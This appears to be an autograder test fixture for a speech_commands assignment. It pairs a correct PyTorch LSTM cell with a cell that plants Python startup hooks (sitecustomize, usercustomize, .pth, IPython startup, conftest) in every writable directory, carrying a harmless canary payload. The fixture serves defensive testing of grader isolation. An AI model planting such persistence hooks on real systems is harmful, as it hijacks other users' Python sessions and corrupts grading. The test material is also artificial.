# ---
# assignment: speech_commands
# expect: {lstm_cell: lost}
# tries: leaves sitecustomize, usercustomize, .pth, IPython and Jupyter start-up files in every place that it can write to
# evidence: at its start
# ---
# The next candidate, or the instructor's own Python, starts with them.
# %% lstm_cell
class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size
        self.x2h = nn.Linear(input_size, 4 * hidden_size, bias=bias)
        self.h2h = nn.Linear(hidden_size, 4 * hidden_size, bias=bias)

    def forward(self, input, hx=None):
        if hx is None:
            hx = (input.new_zeros(len(input), self.hidden_size),) * 2
        h, c = hx
        i, f, g, o = (self.x2h(input) + self.h2h(h)).chunk(4, 1)
        cy = torch.sigmoid(f) * h + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(cy), cy
# %% after lstm_cell
import os
import site
import sys

code = "import os; os.environ['FORGED'] = '@STUDENT@'; open('@CANARY@', 'a').write('forged')"
names = ["sitecustomize.py", "usercustomize.py", "forged.pth", "torch.py", "answering.py", "helpers.py", "ipython_config.py",
         "startup/00-forged.py", "profile_default/startup/00-forged.py", "conftest.py", "nbgrader_config.py"]
places = {os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/coursework", "/coursework/cache", "/submission",
          "/home", "/", "/etc", "/usr/lib/python3/dist-packages", "@COURSE@", "@FOLDER@", os.environ.get("IPYTHONDIR", "/tmp"),
          os.environ.get("MPLCONFIGDIR", "/tmp"), site.getusersitepackages(), *site.getsitepackages(), *sys.path}
written = []
for place in sorted(filter(None, places)):
    for name in names:
        path = os.path.join(place, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(f"import {name.split('.')[0]}; " * name.endswith(".pth") + code)
            written.append(path)
        except OSError:
            continue
print("FORGED was", os.environ.get("FORGED"), "written:", written)
